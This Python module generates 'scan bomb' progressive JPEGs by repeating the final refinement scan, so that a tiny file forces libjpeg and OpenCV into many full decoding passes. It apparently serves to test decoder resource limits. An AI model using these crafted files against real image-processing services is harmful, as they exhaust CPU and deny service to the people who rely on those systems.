"""Progressive JPEG scan bombs, built from a real progressive JPEG by repeating one scan.

libjpeg passes over every block of the image once per scan, even when the scan's data is a few
bytes of end-of-band runs, so repeating the last AC refinement scan (36 bytes here) N times makes
a small file that costs N full passes to decode. (A repeated refinement scan draws libjpeg's
"Inconsistent progression sequence" warning, which OpenCV ignores: the image is decoded anyway.)
"""

from __future__ import annotations

import re

import cv2
import numpy as np

_MARKER = re.compile(rb"\xff[^\x00\xd0-\xd7\xff]")


def progressive(side: int, channels: int = 1) -> bytes:
    """A smooth side x side progressive JPEG written by OpenCV (libjpeg's standard scan script)."""
    y, x = np.mgrid[:side, :side]
    gray = ((x + y) * 255 // (2 * side)).astype(np.uint8)
    image = gray if channels == 1 else np.dstack([gray] * channels)
    ok, buf = cv2.imencode(".jpg", image, [cv2.IMWRITE_JPEG_PROGRESSIVE, 1,
                                           cv2.IMWRITE_JPEG_QUALITY, 50])
    assert ok
    return buf.tobytes()


def scans(data: bytes) -> tuple[bytes, list[bytes], bytes]:
    """(everything before the first scan's tables, [tables + SOS + entropy data per scan], EOI)."""
    pos, start, out = 2, 0, []
    while data[pos + 1] != 0xD9:
        marker, length = data[pos + 1], int.from_bytes(data[pos + 2:pos + 4], "big")
        if 0xC0 <= marker <= 0xCF and marker not in (0xC4, 0xC8, 0xCC):
            start = pos + 2 + length  # after the frame header: each scan's tables go with it
        if marker == 0xDA:
            end = _MARKER.search(data, pos + 2 + length).start()
            out.append(data[start:end])
            start = pos = end
            continue
        pos += 2 + length
    head = data[:data.index(out[0])]
    return head, out, data[pos:]


def scan_bomb(side: int, repeats: int) -> bytes:
    """A progressive gray JPEG whose last scan is repeated `repeats` more times."""
    head, body, tail = scans(progressive(side))
    return head + b"".join(body) + body[-1] * repeats + tail
